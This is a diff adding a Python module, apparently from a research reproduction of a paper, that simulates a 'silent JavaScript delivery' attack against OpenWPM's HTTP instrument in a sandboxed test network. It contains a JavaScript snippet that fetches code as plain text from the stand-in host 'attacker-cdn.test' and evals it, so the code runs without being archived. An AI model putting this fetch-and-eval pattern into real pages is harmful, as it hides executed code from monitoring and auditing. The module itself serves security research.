@@ -1,0 +1,93 @@
+"""Silent JavaScript delivery (paper Listing 4 / Appx. D, Sec. 5.4.2).
+
+The HTTP instrument's ``save_content='script'`` mode archives only
+responses that look like JavaScript (content type or ``.js`` extension).
+An attacker serves code as ``text/plain`` under an extension-less URL,
+fetches it as text, and ``eval``s it client-side: the code runs, but no
+archived JS file documents it.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Optional
+
+from repro.browser.browser import Browser
+from repro.browser.profiles import BrowserProfile, openwpm_profile
+from repro.core.attacks.dispatcher import AttackOutcome
+from repro.core.lab import LAB_URL
+from repro.net.http import HttpResponse
+from repro.net.network import FunctionServer, Network
+from repro.net.page import PageSpec, ScriptItem
+
+#: Listing 4 verbatim (modulo the attacker domain).
+SILENT_DELIVERY_ATTACK = """
+const stealth_code = "https://attacker-cdn.test/cheat";
+fetch(stealth_code)
+    .then(res => res.text())
+    .then(res => eval(res));
+"""
+
+#: The covertly delivered payload: visible behaviour proves execution.
+HIDDEN_PAYLOAD = """
+window.__cheat_executed = true;
+navigator.userAgent;
+"""
+
+
+@dataclass
+class SilentDeliveryOutcome(AttackOutcome):
+    payload_executed: bool = False
+    payload_archived: bool = False
+
+
+def run_silent_delivery_attack(profile: Optional[BrowserProfile] = None,
+                               save_content: str = "script",
+                               stealth: bool = False
+                               ) -> SilentDeliveryOutcome:
+    """Run Listing 4 against an HTTP instrument in the given save mode.
+
+    Success = the payload executed but was *not* archived. With
+    ``save_content='all'`` (the paper's Sec. 6.2.3 recommendation under
+    active adversaries) the body is archived and the attack fails.
+    """
+    from repro.openwpm.config import BrowserParams
+    from repro.openwpm.extension import OpenWPMExtension
+
+    js_instrument = None
+    if stealth:
+        from repro.core.hardening.stealth import StealthJSInstrument
+
+        js_instrument = StealthJSInstrument()
+    extension = OpenWPMExtension(
+        BrowserParams(save_content=save_content, stealth=stealth),
+        js_instrument=js_instrument)
+    profile = profile or openwpm_profile("ubuntu", "regular")
+
+    page = PageSpec(url=LAB_URL, items=[
+        ScriptItem(source=SILENT_DELIVERY_ATTACK),
+    ])
+    network = Network()
+    network.register_domain("lab.test", FunctionServer(
+        lambda r, c, n: HttpResponse(page=page, body=page.to_html())))
+    network.register_domain("attacker-cdn.test", FunctionServer(
+        lambda r, c, n: HttpResponse(content_type="text/plain",
+                                     body=HIDDEN_PAYLOAD)))
+
+    browser = Browser(profile, network, extension=extension)
+    result = browser.visit(LAB_URL, wait=10)
+
+    window = result.top_window
+    executed = bool(window is not None and window.window_object.get(
+        "__cheat_executed", window.interp) is True)
+    archived = any("attacker-cdn.test" in url
+                   for url, _, _ in extension.http_instrument.saved_bodies)
+    return SilentDeliveryOutcome(
+        attack="silent-delivery",
+        succeeded=executed and not archived,
+        recorded_symbols=extension.js_instrument.symbols_accessed()
+        if extension.js_instrument else [],
+        payload_executed=executed,
+        payload_archived=archived,
+        details=f"payload executed: {executed}; archived: {archived}; "
+                f"save_content={save_content!r}")
